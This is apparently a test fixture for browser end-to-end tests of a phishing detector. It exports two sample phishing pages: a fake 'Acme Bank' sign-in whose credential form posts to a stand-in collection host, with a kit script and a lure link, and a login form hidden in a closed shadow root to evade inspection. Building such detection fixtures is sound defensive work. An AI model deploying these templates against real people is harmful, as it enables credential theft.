// The phishing page both browsers' end-to-end tests report (served locally: nothing leaves the machine).

/** A phishing page: a credential form posting to another origin, outbound links, a third-party script. */
export const PHISHING_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>Acme Bank – Sign in</title>
<script src="https://cdn.kit-host.com/kit.js"></script></head>
<body style="font: 20px sans-serif; background: #fff">
<h1>Acme Bank secure sign-in</h1>
<form action="https://collect.kit-host.com/gate.php" method="post">
  <input name="username" type="email"><input name="password" type="password"><button>Sign in</button>
</form>
<p><a id="pay" href="https://pay.evil-link.com/checkout">Pay your fine</a>
<a href="https://acme.example/real">Real Acme</a></p>
<p id="contact">Call +44 20 7946 0958 or write to refunds[at]acme-billing[.]com</p>
</body></html>`;

/** A login form posting elsewhere, in a closed root inside an open one; the page keeps no handle on the closed root. */
export const SHADOW_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Shadow login</title></head><body>
<h1>Sign in</h1><app-shell></app-shell>
<script>
  const outer = document.querySelector('app-shell').attachShadow({ mode: 'open' });
  outer.innerHTML = '<header>Acme Bank</header><login-box></login-box>';
  outer.querySelector('login-box').attachShadow({ mode: 'closed' }).innerHTML =
    '<form action="https://collect.shadow-kit.example/post.php" method="post">' +
    '<input name="user" type="email"><input name="secret" type="password"><button>Sign in</button></form>';
  document.title = 'Shadow login ready';
</script></body></html>`;
